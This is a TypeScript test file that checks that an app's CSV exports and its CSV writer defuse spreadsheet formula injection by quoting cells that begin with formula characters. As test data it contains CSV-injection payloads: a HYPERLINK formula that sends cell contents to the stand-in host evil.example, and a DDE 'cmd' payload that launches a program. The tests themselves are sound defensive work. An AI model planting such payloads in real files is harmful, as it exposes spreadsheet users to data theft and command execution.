import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { CLI_ACTOR } from '../../src/audit/log.ts';
import { csvStream } from '../../src/csv-stream.ts';
import { evaluatePromises } from '../../src/promises/evaluate.ts';
import { createSegment } from '../../src/segments/queries.ts';
import { OutboxTransport } from '../../src/sending/transport.ts';
import { useTestApp } from '../helpers/app.ts';
import { pageSession } from '../helpers/session.ts';
import { buildUpdate } from '../helpers/updates.ts';

const t = useTestApp();

/** The four contact names of the security review, each a live formula if a spreadsheet opens the cell as it is. */
const PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3+cmd'];
const TITLE = '=HYPERLINK("http://evil.example/","Restructuring")';
const SUBJECT = '=1+1 your membership';
/** What a spreadsheet takes for the start of a formula (the full-width forms too). */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

let auditor: Awaited<ReturnType<typeof t.userWithToken>>;
let updateId = 0;

/** Every cell a spreadsheet would see: the data cells, and the describing line cut where a spreadsheet cuts it. */
function assertNoFormula(text: string): Record<string, string>[] {
  const [first] = text.split('\n');
  expect(first).toMatch(/^# /);
  for (const cell of first!.split(/[,;]/)) expect(cell.replace(/^[\s"]+/, ''), `describing line: ${first}`).not.toMatch(FORMULA_START);
  const rows = parse(text, { comment: '#', columns: true }) as Record<string, string>[];
  for (const row of rows) for (const [column, value] of Object.entries(row)) expect(value, column).not.toMatch(FORMULA_START);
  return rows;
}

beforeAll(async () => {
  auditor = await t.userWithToken('auditor');
  const admin = await t.userWithToken('admin');
  const rows = PAYLOADS.map((name, i) => ({ email: `formula${i + 1}@example.org`, name }));
  const imported = await t.api(admin.token, 'POST', '/api/v1/contacts/import', rows);
  expect(imported.status, await imported.clone().text()).toBe(200);
  expect(await imported.json()).toMatchObject({ created: 4, rejected: [] });
  const { segment } = await createSegment(t.deps.db, CLI_ACTOR, { name: 'formula contacts', rule: { all: [{ attribute: 'email', op: 'contains', value: 'formula' }] } });
  updateId = (await buildUpdate(t, { title: TITLE, subject: SUBJECT, segmentIds: [segment.id], promised: { due: new Date(Date.now() + 86_400_000) } })).updateId;
  await evaluatePromises({ db: t.deps.db, transport: new OutboxTransport(t.deps.db), config: t.deps.config }, new Date());
});

describe('CSV exports never hand a spreadsheet a formula', () => {
  it('the history export (API) keeps names, title and subject as text behind a single quote, numbers and dates as they are', async () => {
    const res = await t.api(auditor.token, 'GET', `/api/v1/deliveries.csv?update=${updateId}`);
    expect(res.status).toBe(200);
    const rows = assertNoFormula(await res.text());
    expect(rows.map((r) => r['name']).sort()).toEqual(PAYLOADS.map((p) => `'${p}`).sort());
    for (const r of rows) {
      expect(r['situation']).toBe(`'${TITLE}`);
      // The subject as mailed carries the update's label first, so the typed "=" is inside the text.
      expect(r['subject']).toBe(`Update 1: ${SUBJECT}`);
      expect(r['update_id']).toBe(String(updateId));
      expect(r['update_number']).toBe('1');
      expect(r['sent_at']).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
    }
  });

  it('the history export from the page, filtered by a text that would start a cell with a formula, says so without one', async () => {
    const s = await pageSession(t.app, auditor.email, auditor.password);
    const email = 'x@example.org,=HYPERLINK("http://evil.example/")';
    const res = await s.get(`/history.csv?update=${updateId}&email=${encodeURIComponent(email)}`);
    expect(res.status).toBe(200);
    const text = await res.text();
    assertNoFormula(text);
    expect(text.split('\n')[0]).toContain(`email x@example.org,'=hyperlink("http://evil.example/")`);
    const all = await s.get(`/history.csv?update=${updateId}`);
    expect(assertNoFormula(await all.text())).toHaveLength(4);
  });

  it('the promise export keeps the situation title as text', async () => {
    const s = await pageSession(t.app, auditor.email, auditor.password);
    const res = await s.get('/promises.csv');
    expect(res.status).toBe(200);
    const rows = assertNoFormula(await res.text());
    const mine = rows.find((r) => r['update_id'] === String(updateId));
    expect(mine).toMatchObject({ situation: `'${TITLE}`, update_number: '1', recipients: '4', state: 'open' });
    expect(mine!['due_at']).toMatch(/^\d{4}-\d{2}-\d{2}T/);
  });

  it('the one writer: text starting with = + - @ tab or CR gets a quote, a number never, a separator inside text cannot start a cell', async () => {
    async function* records() {
      yield ['=1+1', '+1', '-1', '@A1', '\tx', '\rx', '\uFF1D1', 'plain', -42, 3.5, '2026-01-10T10:00:00.000Z', 'a;=1+1', 'b; "-2', 'c,@d'];
    }
    const text = await new Response(csvStream('unit', Array.from({ length: 14 }, (_, i) => `c${i}`), records())).text();
    const [row] = parse(text, { comment: '#', columns: true, relax_column_count: false }) as Record<string, string>[];
    expect(Object.values(row!)).toEqual(["'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "'\uFF1D1", 'plain', '-42', '3.5', '2026-01-10T10:00:00.000Z', "a;'=1+1", 'b; "\'-2', 'c,@d']);
  });
});
